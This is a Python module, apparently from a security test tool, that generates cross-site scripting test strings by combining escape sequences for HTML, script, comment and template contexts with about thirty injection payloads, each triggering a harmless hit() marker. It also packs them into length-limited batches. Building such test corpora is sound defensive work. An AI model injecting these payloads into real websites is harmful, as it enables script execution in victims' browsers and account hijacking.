"""Texts that would run as code wherever a page forgets to escape: ways out of a place times things to do there."""

import itertools

WAYS_OUT = [
    *("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "-->", "]]>", "`", "{{7*7}}"),
]
PAYLOADS = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg/onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<body onload=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<a href=javascript:hit()>x</a>",
    "<a href='java\tscript:hit()'>x</a>",
    "<form><button formaction=javascript:hit()>x</button></form>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<style onload=hit()></style>",
    "<link rel=stylesheet href=/x onerror=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<base href=//127.0.0.1:1/>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=hit()>",
    "<div hx-get=/healthz hx-trigger=load hx-on::before-request=hit()></div>",
    "<div hx-on:click=hit() data-hx-on:load=hit() hx-trigger=load></div>",
    '" onmouseover=hit() autofocus onfocus=hit() x="',
    "' onmouseover=hit() autofocus onfocus=hit() x='",
    "javascript:hit()",
    "&lt;img src=x onerror=hit()&gt;",
    "\u202e<img src=x onerror=hit()>",
]
VECTORS = list(dict.fromkeys(out + payload for out, payload in itertools.product(WAYS_OUT, PAYLOADS)))


def packed(number: int, most: int) -> str:
    """As many vectors as fit into so many characters, from the given one on, and around."""
    text = ""
    for vector in itertools.islice(itertools.cycle(VECTORS), number % len(VECTORS), None):
        if len(text) + len(vector) > most or len(text) > 20_000:
            return text or vector[:most]
        text += vector
    return text
